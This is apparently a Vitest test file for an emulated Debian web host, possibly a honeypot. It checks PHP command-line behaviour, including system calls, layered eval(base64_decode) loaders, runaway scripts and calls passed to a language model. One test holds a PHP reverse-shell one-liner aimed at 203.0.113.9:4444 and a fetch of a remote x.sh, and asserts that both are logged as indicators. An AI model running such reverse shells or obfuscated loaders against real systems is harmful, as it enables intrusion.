import { afterAll, describe, expect, it } from 'vitest'
import type { Engine } from '../../../src/llm/question.ts'
import { makeHost, noModel } from '../harness.ts'

const host = makeHost('debian-web')
afterAll(() => host.close())
const { run } = host

describe('php', () => {
  it('tells its version, its modules and its settings', async () => {
    expect((await run('php -v')).stdout).toMatch(
      /^PHP 8\.2\.\d+ \(cli\) \(built: .*\) \(NTS\)\nCopyright \(c\) The PHP Group\nZend Engine v4\.2\.\d+, /,
    )
    const modules = (await run('php -m')).stdout
    expect(modules).toMatch(/^\[PHP Modules\]\ncalendar\nCore\nctype\ncurl\n/)
    expect(modules).toContain('\nmysqli\nmysqlnd\n')
    expect((await run('php -i | head -4')).stdout).toMatch(/^phpinfo\(\)\nPHP Version => 8\.2\.\d+\n\nSystem => Linux \S+ 6\.1\./)
    expect((await run('php -i | grep -c "^disable_functions => no value"')).stdout).toBe('1\n')
    expect((await run('php --ini | head -1')).stdout).toBe('Configuration File (php.ini) Path: /etc/php/8.2/cli\n')
    expect(await run('php -x; php nope.php')).toMatchObject({ stderr: 'Error in argument 1, char 2: option not found x\n', exitCode: 1 })
  })

  it('runs files, standard input and arguments, and names them in its messages', async () => {
    await run(
      `cat > /root/a.php <<'END'\n#!/usr/bin/env php\n<?php\nrequire __DIR__ . "/lib.php";\necho hello($argv[1] ?? "nobody"), basename(__FILE__), "\\n";\n?>\ntail <?= 6*7 ?>\n\n<?php nope();\nEND`,
    )
    await run(`printf '%s' '<?php function hello($x) { return "hello $x "; }' > /root/lib.php`)
    expect(await run('php a.php you')).toEqual({
      stdout: 'hello you a.php\ntail 42\n',
      stderr:
        'PHP Fatal error:  Uncaught Error: Call to undefined function nope() in /root/a.php:8\nStack trace:\n#0 {main}\n  thrown in /root/a.php on line 8\n',
      exitCode: 255,
    })
    expect((await run('echo "<?php echo 1+1;" | php')).stdout).toBe('2')
    expect((await run('php -l lib.php; echo "<?php echo" > bad.php; php -l bad.php')).stdout).toBe(
      'No syntax errors detected in lib.php\nErrors parsing bad.php\n',
    )
    expect((await run("php -d display_errors=1 -r 'echo $x;'")).stdout).toBe(
      '\nWarning: Undefined variable $x in Command line code on line 1\n',
    )
    expect((await run('chmod +x a.php; ./a.php me 2>&1 | head -1')).stdout).toBe('hello me a.php\n')
  })

  it('runs commands as its user with what is printed where it belongs', async () => {
    expect((await run(`php -r 'echo "a"; system("id -un; pwd"); echo "b"; chdir("/tmp"); echo shell_exec("pwd");'`)).stdout).toBe(
      'aroot\n/root\nb/tmp\n',
    )
    expect((await run(`php -r 'passthru("sh");'`, { stdin: 'echo from the shell\n' })).stdout).toBe('from the shell\n')
    expect(
      (await run(`php -r 'file_put_contents("/tmp/w.txt", "x"); chmod("/tmp/w.txt", 0600);'; stat -c '%a %s' /tmp/w.txt`)).stdout,
    ).toBe('600 1\n')
  })

  it('connects nowhere, and says where it was to', async () => {
    const { stderr } = await run(`php -r '$s=fsockopen("203.0.113.9",4444,$e,$t,3);exec("/bin/sh -i <&3 >&3 2>&3");'`)
    expect(stderr).toMatch(
      /^PHP Warning: {2}fsockopen\(\): Unable to connect to 203\.0\.113\.9:4444 \((Connection timed out|No route to host)\) in Command line code on line 1\n/,
    )
    expect(JSON.stringify(host.recorder.of('indicator'))).toContain('203.0.113.9:4444')
    expect((await run(`php -r 'var_dump(@file_get_contents("http://203.0.113.9/x.sh"));'`)).stdout).toBe('bool(false)\n')
    expect(JSON.stringify(host.recorder.of('indicator'))).toContain('http://203.0.113.9/x.sh')
  })

  it('decodes loaders in many layers, and runs what they hold', async () => {
    let code = 'echo "inner ", 6*7;'
    for (let layer = 0; layer < 8; layer++) code = `eval(base64_decode("${Buffer.from(code).toString('base64')}"));`
    expect((await run(`php -r '${code}'`)).stdout).toBe('inner 42')
  })

  it('leaves functions of an extension that it has not to the model', async () => {
    const asked: string[] = []
    const engine: Engine = {
      ...noModel,
      ask: async (question) => {
        asked.push(question.key)
        return { value: question.fallback(), source: 'fallback', generation: {} }
      },
      state: () => ({ ...noModel.state(), enabled: true }),
    }
    const other = makeHost('debian-web', { engine })
    await other.run(`php -r 'curl_exec(curl_init("http://203.0.113.9/"));'`)
    await other.run(`php -r 'echo strrev("x");'`)
    other.close()
    expect(asked).toHaveLength(1)
  })
})

describe('scripts that do their worst', () => {
  it.each([
    ['a loop without end', 'while (true) {}', 124],
    ['recursion without end', 'function f() { return f(); } f();', 139],
    ['a text that doubles', '$a = "x"; while (true) $a .= $a;', 255],
    ['an array that grows', 'while (true) $a[] = 1;', 255],
    ['eval in eval', '$c = "eval(\\$c);"; eval($c);', 255],
  ])('%s ends', async (_, code, status) => {
    const { exitCode } = await run(`timeout 2 php -r '${code}'`)
    // On a busy machine its time is over first.
    expect([status, 124]).toContain(exitCode)
  })

  it('nested brackets and quotes are read soon', async () => {
    const started = performance.now()
    for (const code of [
      '('.repeat(50_000),
      '!'.repeat(50_000),
      `echo "${'{$a['.repeat(20_000)}`,
      'if(1)'.repeat(20_000),
      `[${'['.repeat(9_000)}`,
    ]) {
      await run(`cat > /tmp/x.php; php /tmp/x.php`, { stdin: `<?php ${code}` })
    }
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
